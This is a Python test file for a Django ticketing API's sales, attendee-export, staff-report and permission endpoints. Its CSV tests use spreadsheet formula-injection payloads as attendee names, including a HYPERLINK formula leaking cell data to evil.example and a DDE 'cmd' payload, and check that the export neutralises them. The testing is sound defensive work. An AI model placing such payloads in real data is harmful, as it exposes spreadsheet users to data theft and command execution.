"""Sales and attendees for organizers, orders and stats for staff."""

import csv
import io

import pytest
from rest_framework.test import APIClient

from accounts.models import User
from accounts.tests.factories import OrganizerProfileFactory, UserFactory
from accounts.tests.test_auth import assert_problem
from eventflow.tests.clients import as_user
from events.models import Event
from events.tests.factories import EventFactory, TicketTypeFactory
from orders.services import Line, order_place

pytestmark = pytest.mark.django_db


@pytest.fixture
def sold_event(event, tier):
    """Two paid free tickets for Ada, one for Bob, and a reservation of 3 GA tickets."""
    free = TicketTypeFactory(event=event, name="Guest list", price_cents=0, capacity=20, position=1)
    ada = UserFactory(name="Ada", email="ada@example.com")
    bob = UserFactory(name="Bob", email="bob@example.com")
    order_place(buyer=ada, event_id=event.pk, lines=[Line(free.pk, 2)])
    order_place(buyer=bob, event_id=event.pk, lines=[Line(free.pk, 1)])
    order_place(buyer=bob, event_id=event.pk, lines=[Line(tier.pk, 3)])
    return event, tier, free


def test_sales_per_ticket_type_and_day(sold_event):
    event, _tier, _free = sold_event
    r = as_user(event.organizer.user).get(f"/api/v1/events/{event.pk}/sales")
    assert r.status_code == 200
    body = r.json()
    assert [(t["name"], t["capacity"], t["available"], t["held"], t["sold"]) for t in body["ticket_types"]] == [
        ("GA", 10, 7, 3, 0),
        ("Guest list", 20, 17, 0, 3),
    ]
    assert (body["orders"], body["gross_cents"], body["fees_cents"], body["net_cents"]) == (2, 0, 0, 0)
    assert len(body["days"]) == 1
    assert (body["days"][0]["orders"], body["days"][0]["tickets"]) == (2, 3)


def test_attendees_json_and_csv(sold_event):
    event, _, _ = sold_event
    owner = as_user(event.organizer.user)
    r = owner.get(f"/api/v1/events/{event.pk}/attendees")
    assert r.status_code == 200
    assert [(a["name"], a["ticket_type"]) for a in r.json()["results"]] == [
        ("Ada", "Guest list"),
        ("Ada", "Guest list"),
        ("Bob", "Guest list"),
    ]
    r = owner.get(f"/api/v1/events/{event.pk}/attendees", {"format": "csv"})
    assert r.status_code == 200
    assert r["Content-Type"].startswith("text/csv")
    assert "attachment" in r["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(b"".join(r.streaming_content).decode())))
    assert [(row["name"], row["email"]) for row in rows] == [
        ("Ada", "ada@example.com"),
        ("Ada", "ada@example.com"),
        ("Bob", "bob@example.com"),
    ]
    assert all(len(row["code"]) >= 22 for row in rows)


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\tx",
        "\rx",
    ],
)
def test_attendee_csv_neutralises_spreadsheet_formulas(event, tier, name):
    free = TicketTypeFactory(event=event, name="=1+1", price_cents=0, capacity=5)
    mallory = UserFactory(name=name, email="mallory@example.com")
    order_place(buyer=mallory, event_id=event.pk, lines=[Line(free.pk, 1)])
    r = as_user(event.organizer.user).get(f"/api/v1/events/{event.pk}/attendees", {"format": "csv"})
    (row,) = csv.DictReader(io.StringIO(b"".join(r.streaming_content).decode(), newline=""))
    assert row["name"] == f"'{name}"
    assert row["ticket_type"] == "'=1+1"
    assert row["email"] == "mallory@example.com"  # ordinary text is left alone
    # and the JSON list, which no spreadsheet opens, shows the name as it is
    assert (
        as_user(event.organizer.user).get(f"/api/v1/events/{event.pk}/attendees").json()["results"][0]["name"] == name
    )


@pytest.mark.parametrize("name", ["Max;=1+1;", "Max\t=cmd|' /C calc'!A0", 'Max,"=1+1"'])
def test_a_formula_after_a_separator_stays_inside_its_quoted_cell(event, tier, name):
    free = TicketTypeFactory(event=event, name="GA", price_cents=0, capacity=5)
    order_place(buyer=UserFactory(name=name, email="max@example.com"), event_id=event.pk, lines=[Line(free.pk, 1)])
    r = as_user(event.organizer.user).get(f"/api/v1/events/{event.pk}/attendees", {"format": "csv"})
    text = b"".join(r.streaming_content).decode()
    line = text.splitlines()[1]
    quoted = name.replace('"', '""')
    assert line.startswith(f'"{quoted}","max@example.com","GA",')  # every cell in quotes
    for separator in (";", "\t"):  # read as a semicolon- or tab-locale spreadsheet would: quotes hold the cell
        (row,) = csv.reader(io.StringIO(line), delimiter=separator)
        assert not any(cell.startswith(("=", "+", "@")) for cell in row), row


def test_ticket_codes_never_start_like_a_formula():
    from orders.models import new_ticket_code

    assert not any(new_ticket_code().startswith("-") for _ in range(5000))


def test_reports_are_for_the_owner_and_admins_only(sold_event):
    event, _, _ = sold_event
    draft = EventFactory(organizer=event.organizer)
    for path in ("sales", "attendees"):
        assert_problem(
            as_user(OrganizerProfileFactory().user).get(f"/api/v1/events/{event.pk}/{path}"), 403, "permission_denied"
        )
        assert_problem(as_user(UserFactory()).get(f"/api/v1/events/{draft.pk}/{path}"), 404, "not_found")
        assert_problem(APIClient().get(f"/api/v1/events/{event.pk}/{path}"), 401, "not_authenticated")
        admin = User.objects.create_superuser(email=f"root-{path}@example.com", password="x-Strong-Pass-1")
        assert as_user(admin).get(f"/api/v1/events/{event.pk}/{path}").status_code == 200


def test_staff_orders_and_stats(sold_event):
    _event, _tier, _ = sold_event
    other = EventFactory(status=Event.Status.PUBLISHED, currency="USD")
    usd = TicketTypeFactory(event=other, price_cents=0, capacity=5)
    order_place(buyer=UserFactory(), event_id=other.pk, lines=[Line(usd.pk, 1)])
    admin = as_user(User.objects.create_superuser(email="root@example.com", password="x-Strong-Pass-1"))

    r = admin.get("/api/v1/admin/orders")
    assert r.json()["count"] == 4
    assert [o["status"] for o in admin.get("/api/v1/admin/orders", {"status": "reserved"}).json()["results"]] == [
        "reserved"
    ]
    assert admin.get("/api/v1/admin/orders", {"event": other.pk}).json()["count"] == 1
    bob = User.objects.get(email="bob@example.com")
    assert admin.get("/api/v1/admin/orders", {"user": bob.pk}).json()["count"] == 2
    assert_problem(admin.get("/api/v1/admin/orders", {"status": "lost"}), 400, "invalid")

    stats = admin.get("/api/v1/admin/stats").json()
    assert stats["orders_by_status"] == {"reserved": 1, "paid": 3, "expired": 0, "cancelled": 0, "refunded": 0}
    assert stats["tickets_sold"] == 4
    assert {row["currency"] for row in stats["revenue"]} == {"EUR", "USD"}


def test_staff_endpoints_refuse_everyone_else(sold_event):
    event, _, _ = sold_event
    for path in ("/api/v1/admin/orders", "/api/v1/admin/stats"):
        assert_problem(APIClient().get(path), 401, "not_authenticated")
        assert_problem(as_user(UserFactory()).get(path), 403, "permission_denied")
        assert_problem(as_user(event.organizer.user).get(path), 403, "permission_denied")


def test_my_tickets_lists_only_valid_tickets_of_the_caller(sold_event):
    ada = User.objects.get(email="ada@example.com")
    tickets = as_user(ada).get("/api/v1/users/me/tickets").json()["results"]
    assert len(tickets) == 2
    assert {t["ticket_type"]["name"] for t in tickets} == {"Guest list"}
    assert as_user(UserFactory()).get("/api/v1/users/me/tickets").json()["count"] == 0


def test_order_list_query_count_is_flat(client, event, tier, django_assert_max_num_queries):
    for _ in range(2):
        client.post("/api/v1/orders", {"event": event.pk, "items": [{"ticket_type": tier.pk, "quantity": 1}]})
    # the page, its items, its seats (reserved seating: one query per page, not per order)
    with django_assert_max_num_queries(4):
        assert client.get("/api/v1/orders").json()["count"] == 2
    for _ in range(4):
        client.post("/api/v1/orders", {"event": event.pk, "items": [{"ticket_type": tier.pk, "quantity": 1}]})
    with django_assert_max_num_queries(4):
        assert client.get("/api/v1/orders").json()["count"] == 6


@pytest.mark.parametrize("value", ["1.5", "1_000", "1e3", "-1", "99999999999999999999999"])
def test_staff_order_filters_take_whole_ids_only(value):
    admin = UserFactory(is_staff=True, is_superuser=True, role=User.Role.ADMIN)
    for name in ("event", "user"):
        body = assert_problem(as_user(admin).get("/api/v1/admin/orders", {name: value}), 400, "invalid")
        assert name in body["errors"]
